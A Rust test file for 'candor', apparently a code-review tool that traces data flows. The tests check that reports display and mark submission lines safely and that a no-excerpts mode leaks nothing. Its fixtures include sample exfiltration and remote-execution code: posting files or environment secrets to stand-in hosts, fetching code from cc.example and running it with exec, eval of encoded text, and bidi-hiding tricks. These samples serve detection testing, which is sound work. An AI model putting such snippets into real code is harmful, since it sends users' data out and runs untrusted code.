//! Lines of code in a report: they are the submission's own lines, made safe to show, coloured and marked; and a report that
//! is to hold none holds none, in any form.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use candor::base::display;
use candor::report::model::{CodeFile, CodeLine, Finding, Report};

use super::intake_support::write;
use super::review_run::{Review, Reviewed};

const UPLOAD: &str =
    "import requests\n\ndef send(path):\n    requests.post(\"https://collect.example/in\", data=open(path).read())\n";

fn acme() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cases/acme-agent"))
}

/// Path, line and column of everything that a finding shows.
fn places(finding: &Finding) -> Vec<(&str, u32, u32)> {
    let ends = [&finding.source, &finding.sink].map(|place| (place.path.as_str(), place.line, place.column));
    let steps = finding.steps.iter().map(|step| (step.path.as_str(), step.line, step.column));
    ends.into_iter().chain(steps).collect()
}

fn shown<'a>(report: &'a Report, path: &str) -> &'a CodeFile {
    let code = report.code.as_ref().expect("lines of code");
    code.file(path).unwrap_or_else(|| panic!("{path} is not shown"))
}

/// The text that is marked for a place, over all its lines.
fn marked(file: &CodeFile, line: u32, column: u32) -> String {
    let mark = file.mark(line, column).unwrap_or_else(|| panic!("{}:{line}:{column} has no mark", file.path));
    let text = |number: u32, piece: u32| -> Vec<char> {
        let found = file.lines.iter().find(|line| (line.line, line.column) == (number, piece)).expect("its line");
        found.text.chars().collect()
    };
    let first = text(mark.line, mark.piece);
    if mark.end == mark.line {
        return first[mark.from as usize..mark.to as usize].iter().collect();
    }
    let between = (mark.line + 1..mark.end).map(|line| text(line, 1).iter().collect::<String>());
    let ends = [first[mark.from as usize..].iter().collect::<String>(), text(mark.end, 1)[..mark.to as usize].iter().collect()];
    let [start, end] = ends;
    [start].into_iter().chain(between).chain([end]).collect::<Vec<_>>().join("\n")
}

/// The characters of a line that have this kind.
fn of_kind(line: &CodeLine, kind: char) -> String {
    let kinds = line.runs().flat_map(|(count, letter)| std::iter::repeat_n(letter, count));
    line.text.chars().zip(kinds).filter(|(_, letter)| *letter == kind).map(|(character, _)| character).collect()
}

#[test]
fn every_place_of_a_finding_shows_its_line_as_it_is() {
    let report = Review::of(acme()).run().report();
    let mut seen = 0;
    for finding in report.findings.iter().chain(&report.metadata) {
        for (path, line, column) in places(finding) {
            let file = shown(&report, path);
            let text = fs::read_to_string(acme().join(path)).expect("text");
            let line_text = text.lines().nth(line as usize - 1).expect("a line");
            let own = file.lines.iter().find(|one| one.line == line).expect("its line");
            assert_eq!(own.text, line_text, "{path}:{line}");
            let marked = marked(file, line, column);
            assert!(
                line_text[column as usize - 1..].starts_with(marked.lines().next().unwrap_or_default()),
                "{path}:{line}: {marked}"
            );
            assert!(!marked.is_empty(), "{path}:{line}:{column}");
            seen += 1;
        }
    }
    assert!(seen > 40, "{seen} places");
    let code = report.code.as_ref().expect("lines of code");
    assert!(!code.withheld && code.left_out == 0);
    let lines = || code.files.iter().flat_map(|file| &file.lines);
    for kind in ['k', 's', 'n', 'p'] {
        assert!(lines().any(|line| !of_kind(line, kind).is_empty()), "no token of the kind {kind}");
    }
    // No line but those around the places.
    let source: usize =
        code.files.iter().map(|file| fs::read_to_string(acme().join(&file.path)).expect("text").lines().count()).sum();
    assert!(lines().count() < source, "{} of {source} lines", lines().count());
}

#[test]
fn colours_and_marks_come_from_the_parse() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let text = "import requests\n\n# open(x)\ndef send(path):\n    data = f\"{open(path).read()} 7\"  # leaves\n    requests.post(\n        \"https://collect.example/in\",\n        data=data)\n";
    write(scratch.path(), "send.py", text.as_bytes());
    let report = Review::of(scratch.path()).run().report();
    let finding = report.findings.first().expect("a finding");
    let file = shown(&report, "send.py");
    let source = file.lines.iter().find(|line| line.line == 5).expect("the source");
    assert_eq!(of_kind(source, 'c'), "# leaves");
    assert_eq!(of_kind(source, 's'), "f\" 7\"");
    assert_eq!(of_kind(source, 'n'), "dataopenpathread");
    let sink = &finding.sink;
    assert_eq!(marked(file, sink.line, sink.column), text[text.find("requests.post").expect("there")..].trim_end());
    let source = &finding.source;
    assert!(marked(file, source.line, source.column).starts_with("open(path)"));
}

#[test]
fn what_acts_is_shown_and_long_lines_are_cut_around_the_place() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let flow = "requests.post(\"https://collect.example/in\", data=open(path).read())";
    let cases: &[(&str, Vec<u8>, &str)] = &[
        ("tabs.py", format!("import requests\ndef send(path):\n\tif path:\n\t\t{flow}\n").into_bytes(), "        requests.post"),
        ("crlf.py", format!("import requests\r\ndef send(path):\r\n    {flow}\r\n").into_bytes(), "    requests.post"),
        (
            "bidi.py",
            format!("import requests\ndef send(path):\n    {flow}  # \u{202e}a\\u{{202e}}\u{200b}\u{1b}[2J\n").into_bytes(),
            "\\u{202e}a\\u{202e}\\u{200b}\\u{1b}[2J",
        ),
        (
            "bytes.py",
            [format!("import requests\ndef send(path):\n    {flow}  # ").as_bytes(), b"\xff\xfe\n"].concat(),
            "\\xff\\xfe",
        ),
        (
            "long.py",
            format!(
                "import requests\ndef send(path):\n    a = '{}'; {flow}; b = '{}'\n",
                "x".repeat(100_000),
                "é".repeat(90_000)
            )
            .into_bytes(),
            "requests.post",
        ),
        (
            "wide.py",
            format!("import requests\ndef send(path):\n    a = '{}'; {flow}\n", "漢".repeat(500)).into_bytes(),
            "requests.post",
        ),
    ];
    for (name, text, _) in cases {
        write(scratch.path(), name, text);
    }
    let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(UPLOAD.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    write(scratch.path(), "utf16.py", &utf16);
    let report = Review::of(scratch.path()).run().report();
    for (name, _, expected) in cases {
        let finding = report.findings.iter().find(|finding| finding.sink.path == *name);
        let finding = finding.unwrap_or_else(|| panic!("{name}: no finding"));
        let file = shown(&report, name);
        let line = file.lines.iter().find(|line| line.line == finding.sink.line && line.text.contains("requests.post"));
        let line = line.unwrap_or_else(|| panic!("{name}: {:?}", file.lines));
        assert!(line.text.contains(expected), "{name}: {}", line.text);
        assert!(line.text.chars().count() < 300 && !line.text.chars().any(display::is_unsafe), "{name}: {}", line.text);
        assert_eq!(marked(file, finding.sink.line, finding.sink.column), flow, "{name}");
    }
    let line_of =
        |name: &str| shown(&report, name).lines.iter().find(|line| line.text.contains("requests.post")).expect("a line");
    // A control character and the text that stands for it are told apart.
    assert_eq!(of_kind(line_of("bidi.py"), 'x'), "\\u{202e}\\u{200b}\\u{1b}");
    assert_eq!(of_kind(line_of("bytes.py"), 'x'), "\\xff\\xfe");
    assert_eq!(of_kind(line_of("long.py"), 'x'), "……");
    assert!(line_of("long.py").column > 99_000);
    assert!(line_of("utf16.py").text.starts_with("    requests.post("), "{}", line_of("utf16.py").text);
    let utf16 = report.findings.iter().find(|finding| finding.sink.path == "utf16.py").expect("a finding");
    assert!(utf16.sink.excerpt.starts_with("requests.post("), "{}", utf16.sink.excerpt);
}

/// Everything that a review leaves behind or prints.
fn outputs(reviewed: &Reviewed) -> Vec<(String, String)> {
    let mut outputs = vec![("stdout".to_owned(), reviewed.stdout.clone()), ("stderr".to_owned(), reviewed.stderr.clone())];
    for entry in fs::read_dir(&reviewed.pack).expect("a pack") {
        let path = entry.expect("an entry").path();
        if path.is_file() {
            let bytes = fs::read(&path).expect("a file");
            outputs.push((path.display().to_string(), String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
    outputs
}

/// Lines of the files below `folder`, trimmed, that are longer than a name; paths of its files are no secret.
fn lines_below(folder: &Path) -> BTreeSet<String> {
    let (mut lines, mut paths, mut pending) = (BTreeSet::new(), BTreeSet::new(), vec![folder.to_owned()]);
    while let Some(folder_or_file) = pending.pop() {
        if folder_or_file.is_dir() {
            pending.extend(fs::read_dir(&folder_or_file).expect("a folder").map(|entry| entry.expect("an entry").path()));
            continue;
        }
        paths.insert(folder_or_file.strip_prefix(folder).expect("below").display().to_string());
        let text = String::from_utf8_lossy(&fs::read(&folder_or_file).expect("a file")).into_owned();
        lines.extend(text.lines().map(str::trim).filter(|line| line.chars().count() > 12).map(str::to_owned));
    }
    lines.into_iter().filter(|line| !paths.iter().any(|path| path.contains(line.as_str()))).collect()
}

/// Whether the report has something from each list that quotes a submission.
fn withheld_of_every_kind(submission: &Path) -> bool {
    let report = Review::of(submission).arg("--no-excerpts").run().report();
    report.indicators.len() > 4
        && report.components.is_some_and(|packages| packages.list.len() > 3)
        && report.disclosures.is_some_and(|disclosures| disclosures.usable)
        && report.scope.claim.is_some()
        && report.metrics.is_some()
}

#[test]
fn a_review_without_excerpts_holds_no_line_of_the_submission() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    write(scratch.path(), "tool/send.py", UPLOAD.as_bytes());
    write(
        scratch.path(),
        "tool/run.js",
        b"const cp = require('child_process');\nfetch('https://cc.example/x').then(r => r.text()).then(t => cp.exec(t));\n",
    );
    // What signs of hiding, packages, metrics and the vendor's own files are taken from.
    for (path, text) in [
        (
            "package.json",
            "{\n  \"name\": \"collector\",\n  \"version\": \"1.0.0\",\n  \"dependencies\": {\n    \"left-pad\": \"^1.3.0\"\n  }\n}\n",
        ),
        ("requirements.txt", "requests==2.31.0  # pinned by hand\nzope.interface>=5,<6\n"),
        ("pyproject.toml", "[project]\nname = \"collector\"\nversion = \"1.0.0\"\ndependencies = [\"flask >= 2\"]\n"),
        (".gitattributes", "secret-tools/* export-ignore\n"),
        (".eslintignore", "generated/secret-part.js\n"),
        (
            "tool/hidden.py",
            "import os\n# pylint: disable=exec-used,eval-used\nexec(os.environ['PAYLOAD_TEXT'])  # noqa: S102\nblob = '4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000'\naccess = 'user\u{202e} # only admins\u{2066}'\n",
        ),
        (
            "tool/hidden.js",
            "/* eslint-disable no-eval, no-implied-eval */\nconst run\u{200b}ner = eval(atob('YWxlcnQoImEgbG9uZyBlbm91Z2ggcGF5bG9hZCIp'));\n",
        ),
        (
            "tool/copy.c",
            "#include <string.h>\n#define strncpy(to, from, size) quick_copy(to, from, size)\nvoid f(char *a, char *b) { strcpy(a, b); memcpy(a, b, 9); }\n",
        ),
        ("submission.toml", "vendor = \"Example House\"\nproduct = \"Collector\"\nversion = \"1.0.0\"\n"),
        (
            "candor.disclosure.toml",
            "[[disclosure]]\nid = \"uploads\"\ndata = [\"FILE\"]\nchannel = \"egress.http\"\nendpoints = [\"collect.example\"]\npurpose = \"what the user hands in\"\n",
        ),
    ] {
        write(scratch.path(), path, text.as_bytes());
    }
    for submission in [acme(), scratch.path()] {
        let lines = lines_below(submission);
        let mut told = 0;
        for format in ["text", "json", "sarif", "markdown", "cyclonedx"] {
            let reviewed = Review::of(submission).arg("--no-excerpts").arg(format!("--format={format}")).run();
            let report = reviewed.report();
            assert!(!report.findings.is_empty() && report.code.as_ref().is_some_and(|code| code.withheld));
            for (name, text) in outputs(&reviewed) {
                // As it stands, and as JSON and HTML would have it.
                let quoted = |line: &str| serde_json::to_string(line).expect("JSON").trim_matches('"').to_owned();
                let escaped = |line: &str| {
                    line.replace('&', "&#38;")
                        .replace('<', "&#60;")
                        .replace('>', "&#62;")
                        .replace('"', "&#34;")
                        .replace('\'', "&#39;")
                };
                let found = lines
                    .iter()
                    .find(|line| [(*line).clone(), quoted(line), escaped(line)].iter().any(|form| text.contains(form.as_str())));
                assert_eq!(found, None, "{name}");
            }
            told += lines.len();
        }
        assert!(told > 9, "{told} lines to look for");
        assert!(submission == acme() || withheld_of_every_kind(submission), "nothing was there to be quoted");
        let with = Review::of(submission).run();
        assert!(
            outputs(&with).iter().any(|(_, text)| lines.iter().any(|line| text.contains(line.as_str()))),
            "the search finds what is there"
        );
    }
}

#[test]
fn without_excerpts_a_baseline_brings_none_and_a_rerun_is_identical() {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    let candor = |args: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        command.env_clear().env("HOME", scratch.path()).current_dir(scratch.path()).stdin(Stdio::null()).args(args);
        let output = command.output().expect("it runs");
        (output.status.code(), String::from_utf8([output.stdout, output.stderr].concat()).expect("UTF-8"))
    };
    write(scratch.path(), "one/send.py", UPLOAD.as_bytes());
    write(scratch.path(), "two/send.py", b"import os\nimport requests\n\ndef tell(secret_name):\n    requests.post('https://a.example', data=os.environ[secret_name])\n");
    candor(&["review", "one", "--output=one.candor", "--quiet"]);
    candor(&["review", "two", "--output=two.candor", "--quiet", "--no-excerpts", "--baseline=one.candor"]);
    let text = fs::read_to_string(scratch.path().join("two.candor/report.json")).expect("a report");
    let report = Report::from_json(text.as_bytes()).expect("sound");
    assert_eq!(report.history.as_ref().map(|history| history.fixed.len()), Some(1));
    assert!(!text.contains("open(path).read()") && !text.contains("os.environ["), "{text}");
    let statement = fs::read_to_string(scratch.path().join("two.candor/statement.json")).expect("a statement");
    assert!(statement.contains("\"excerpts\":\"withheld\""), "{statement}");
    let (code, said) = candor(&["rerun", "two.candor", "two", "--quiet", "--baseline=one.candor"]);
    assert!(code == Some(0) && said.contains("IDENTICAL"), "{said}");
}
